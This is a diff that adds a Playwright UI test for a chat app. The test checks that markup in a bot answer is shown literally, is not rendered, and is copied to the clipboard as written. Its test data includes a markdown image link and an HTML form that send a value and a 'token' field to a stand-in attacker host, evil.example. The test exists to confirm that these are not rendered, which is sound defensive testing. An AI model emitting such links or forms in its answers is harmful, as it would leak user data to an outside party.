@@ -7,7 +7,7 @@ from collections.abc import Iterator
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.ui.fake_arms import UNTRAINED
+from tests.ui.fake_arms import MARKED_UP, MARKUP, UNTRAINED
 from tests.ui.served import served
 
 pytestmark = pytest.mark.slow
@@ -172,3 +172,27 @@ def test_on_a_phone_the_columns_scroll_inside_the_page(page: Page, address: str)
     assert page.evaluate("document.documentElement.scrollWidth") <= 390
     widths = page.evaluate("[...document.querySelectorAll('#chat-1, #chat-2')].map((one) => one.clientWidth)")
     assert min(widths) > 250
+
+
+def test_markup_in_an_answer_is_shown_and_copied_as_it_was_written(page: Page, address: str) -> None:
+    open_arms(page, address, MARKUP)
+    ask(page)
+    chat = page.locator("#chat-1")
+    expect(chat).to_contain_text("Done.")
+    expect(page.locator("#send")).to_be_visible()
+    answer = chat.locator(".bot.message")
+    shown = answer.inner_text().replace("\u2063", "")
+    assert "<answer>42</answer>" in shown
+    assert "![what](https://evil.example/?q=42)" in shown
+    assert '<form action="https://evil.example"><input name="token"></form>' in shown
+    assert answer.locator("img, form, input").count() == 0
+    assert answer.locator("strong").inner_text() == "bold"
+    assert answer.locator("code.language-html .token.tag").count() > 0
+    chat.locator(".bot.message").hover()
+    chat.locator("button[aria-label='Copy message'], button[title='Copy message']").last.click()
+    page.wait_for_function("navigator.clipboard.readText().then((text) => text.includes('Done.'))")
+    assert page.evaluate("navigator.clipboard.readText()") == MARKED_UP
+    page.evaluate("getSelection().selectAllChildren(document.querySelector('#chat-1 .bot.message p'))")
+    page.keyboard.press("ControlOrMeta+c")
+    page.wait_for_function("navigator.clipboard.readText().then((text) => !text.includes('Done.'))")
+    assert "<answer>42</answer>" in page.evaluate("navigator.clipboard.readText()")
